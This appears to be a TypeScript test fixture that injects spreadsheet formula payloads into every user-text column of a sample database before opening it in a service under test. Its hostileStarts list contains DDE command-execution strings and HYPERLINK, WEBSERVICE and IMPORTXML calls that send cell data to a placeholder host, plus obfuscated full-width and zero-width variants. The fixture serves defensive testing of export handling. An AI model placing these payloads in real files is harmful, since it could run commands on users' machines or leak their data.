/** The whole sample with words in it that a spreadsheet, Word or a file system would obey: what somebody typed, pasted or sent in to do harm. */
import { join } from 'node:path'
import Database from 'better-sqlite3'
import { startService, testFolder, writeWholeSample } from './offices.ts'

/** Each begins as a formula does: a link with what is read along, a program started, a function, and the same from behind a sign nobody sees. */
export const hostileStarts = [
  '=HYPERLINK("http://ke-xau.invalid/?"&A1,"xem")', '=cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '- cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\uFF1D1+1', '\uFF20SUM(1)', '\u200B=1+1', ' =WEBSERVICE("http://ke-xau.invalid")', '=IMPORTXML("http://ke-xau.invalid","//a")', '-HYPERLINK("http://ke-xau.invalid","x")',
] as const

/** Columns and fields that hold words of people. */
const words = new Set(['name', 'full_name', 'fullName', 'title', 'subject', 'issuer', 'note', 'reason', 'text', 'words', 'wording', 'basis', 'unitOfMeasure', 'decision', 'unratedReason', 'file_name', 'lead', 'product', 'addressee', 'designation'])

type Poisoned = (text: string) => string

function poisonedJson(value: unknown, poisoned: Poisoned): unknown {
  if (Array.isArray(value)) return value.map((each) => poisonedJson(each, poisoned))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, typeof inner === 'string' && words.has(key) ? poisoned(inner) : poisonedJson(inner, poisoned)]))
}

/** Puts hostile words before every word of people in the file, past the program. */
function poison(path: string, starts: readonly string[]): void {
  let count = 0
  const poisoned: Poisoned = (text) => text === '' ? '' : `${starts[count++ % starts.length] ?? ''} ${text}`
  const file = new Database(path)
  file.pragma('foreign_keys = OFF')
  const triggers = file.prepare(`SELECT name, sql FROM sqlite_schema WHERE type = 'trigger'`).all() as { name: string, sql: string }[]
  for (const { name } of triggers) file.exec(`DROP TRIGGER ${name}`)
  const tables = file.prepare(`SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE 'search%' AND sql NOT LIKE '%VIRTUAL%'`).pluck().all() as string[]
  const kept = new Set(['audit', 'change_history', 'kysely_migration', 'kysely_migration_lock', 'blob', 'account'])
  file.exec('BEGIN')
  for (const table of tables.filter((each) => !kept.has(each))) poisonTable(file, table, poisoned)
  for (const { sql } of triggers) file.exec(sql)
  file.exec('COMMIT')
  file.pragma('wal_checkpoint(TRUNCATE)')
  file.close()
}

function poisonTable(file: Database, table: string, poisoned: Poisoned): void {
  const info = file.prepare(`PRAGMA table_info("${table}")`).all() as { name: string, type: string, pk: number }[]
  const columns = info.filter(({ name, type, pk }) => type === 'TEXT' && pk === 0 && (words.has(name) || name.endsWith('_json'))).map(({ name }) => name)
  const keys = info.filter(({ pk }) => pk > 0).map(({ name }) => name)
  if (columns.length === 0 || keys.length === 0) return
  const where = keys.map((key) => `"${key}" IS ?`).join(' AND ')
  for (const row of file.prepare(`SELECT * FROM "${table}"`).all() as Record<string, unknown>[]) {
    for (const column of columns) {
      const value = row[column]
      if (typeof value !== 'string') continue
      const changed = column.endsWith('_json') ? JSON.stringify(poisonedJson(JSON.parse(value), poisoned)) : poisoned(value)
      if (changed !== value) file.prepare(`UPDATE "${table}" SET "${column}" = ? WHERE ${where}`).run(changed, ...keys.map((key) => row[key]))
    }
  }
}

/** A service with that office open; `out` grants a new file or folder of the test's folder. */
export async function hostileOffice(starts: readonly string[] = hostileStarts) {
  const folder = testFolder()
  const path = join(folder, 'office.vpk')
  await writeWholeSample(path)
  poison(path, starts)
  const service = startService()
  service.host.grants.add('grant-office', path, 'openOffice')
  await service.client.office.open({ grant: 'grant-office' })
  let grants = 0
  const out = (name: string, purpose: 'export' | 'formsFolder' | 'checkFolder' = 'export') => {
    const grant = `grant-out-${++grants}`
    service.host.grants.add(grant, join(folder, name), purpose)
    return { grant, path: join(folder, name) }
  }
  return { ...service, folder, out }
}
